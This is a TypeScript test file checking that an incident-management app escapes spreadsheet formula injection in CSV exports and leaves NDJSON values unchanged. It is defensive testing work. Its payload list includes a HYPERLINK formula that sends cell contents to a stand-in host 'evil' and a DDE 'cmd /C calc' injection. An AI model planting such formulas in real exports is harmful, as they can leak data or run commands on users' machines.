import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { exportFile } from '../../src/services/export-service.ts';
import { parseCsv } from '../strict-csv.ts';

/**
 * Export files as the writer makes them, without a store: CSV text cells that a spreadsheet would
 * run as a formula are written with a leading `'`, and nothing else changes.
 */

/** Cell payloads from OWASP's CSV injection page and the usual scanners, one per trigger. */
const FORMULAS = [
  '=HYPERLINK("http://evil/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
];

const incident = (fields: Partial<Record<string, string | number | null>>) => ({
  id: '3f1c2a8e-5b7d-4e9f-a1c3-2d4e6f8a0b1c',
  incident_number: 'INC-2025-142',
  description: 'Slip on wet floor',
  status: 'open',
  severity_score: 6,
  severity_likelihood: 2,
  severity_impact: 3,
  location: 'Warehouse North',
  incident_date: '2025-11-03',
  created_at: '2025-11-03T09:41:12.000Z',
  updated_at: '2025-11-04T14:05:00.000Z',
  ...fields,
});

const user = (fields: Partial<Record<string, string | null>>) => ({
  id: '8d2e4f60-1a3b-4c5d-9e7f-0a1b2c3d4e5f',
  name: 'Amara Okafor',
  email: 'amara.okafor@example.com',
  role: 'manager',
  department: 'Operations',
  job_title: 'Shift Supervisor',
  created_at: '2024-03-18T08:00:00.000Z',
  ...fields,
});

const named = (name: string) => ({
  id: '1b6a0c3d-7e2f-4a8b-b9c0-d1e2f3a4b5c6',
  name,
  created_at: '2024-01-08T10:00:00.000Z',
});

/** The CSV's rows as objects, by its header. */
function csvRecords(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  assert.ok(header !== undefined);
  for (const row of rows) assert.equal(row.length, header.length, 'every row has every column');
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i] as string])));
}

describe('export files', () => {
  test('CSV: a text cell that begins like a formula gets a leading quote, and stays valid CSV', () => {
    const records = FORMULAS.map((formula) => incident({ description: formula, location: formula }));
    const csv = exportFile('incidents', 'csv', records);
    const rows = csvRecords(csv);
    assert.equal(rows.length, FORMULAS.length);
    FORMULAS.forEach((formula, i) => {
      assert.equal(rows[i]?.description, `'${formula}`, JSON.stringify(formula));
      assert.equal(rows[i]?.location, `'${formula}`, JSON.stringify(formula));
    });
    // Quoted exactly where CSV needs it: the HYPERLINK for its quotes and comma, `\r=1` for its CR.
    assert.ok(csv.includes(`,"'=HYPERLINK(""http://evil/?""&A1,""click"")",`));
    assert.ok(csv.includes(`,'+cmd|' /C calc'!A0,`));
    assert.ok(csv.includes(`,'-2+3,`));
    assert.ok(csv.includes(`,'\t=1,`));
    assert.ok(csv.includes(`,"'\r=1",`));

    const users = csvRecords(
      exportFile('users', 'csv', [
        user({ name: '=1+1', email: '=cmd@example.com', role: '@admin', department: '-x', job_title: '+y' }),
      ]),
    );
    assert.deepEqual(
      users[0],
      user({
        name: "'=1+1",
        email: "'=cmd@example.com",
        role: "'@admin",
        department: "'-x",
        job_title: "'+y",
      }),
    );
    for (const resource of ['departments', 'locations'] as const) {
      const rows = csvRecords(exportFile(resource, 'csv', FORMULAS.map(named)));
      assert.deepEqual(
        rows.map((row) => row.name),
        FORMULAS.map((formula) => `'${formula}`),
        resource,
      );
    }
  });

  test('CSV: ordinary text, numbers (negative too), dates and nulls are written as they are', () => {
    const record = incident({
      description: 'Spill, "north" dock; a=b, 1+1, -> see @ops later',
      severity_score: -6,
      severity_likelihood: -2,
      severity_impact: 3,
      location: null,
      incident_date: null,
    });
    const csv = exportFile('incidents', 'csv', [record]);
    assert.equal(
      csv,
      'id,incident_number,description,status,severity_score,severity_likelihood,severity_impact,location,incident_date,created_at,updated_at\r\n' +
        '3f1c2a8e-5b7d-4e9f-a1c3-2d4e6f8a0b1c,INC-2025-142,"Spill, ""north"" dock; a=b, 1+1, -> see @ops later",open,-6,-2,3,,,2025-11-03T09:41:12.000Z,2025-11-04T14:05:00.000Z\r\n',
    );
    const dated = csvRecords(exportFile('incidents', 'csv', [incident({})]))[0];
    assert.equal(dated?.incident_date, '2025-11-03');
    assert.equal(dated?.created_at, '2025-11-03T09:41:12.000Z');
  });

  test('NDJSON carries the same values untouched', () => {
    const records = FORMULAS.map((formula) => incident({ description: formula, location: formula }));
    const lines = exportFile('incidents', 'ndjson', records).split('\n');
    assert.equal(lines.pop(), '', 'every line ends in LF');
    assert.deepEqual(
      lines.map((line) => JSON.parse(line)),
      records,
    );
    const users = [user({ name: '=1+1', email: '@x' })];
    assert.deepEqual(JSON.parse(exportFile('users', 'ndjson', users)), users[0]);
  });
});
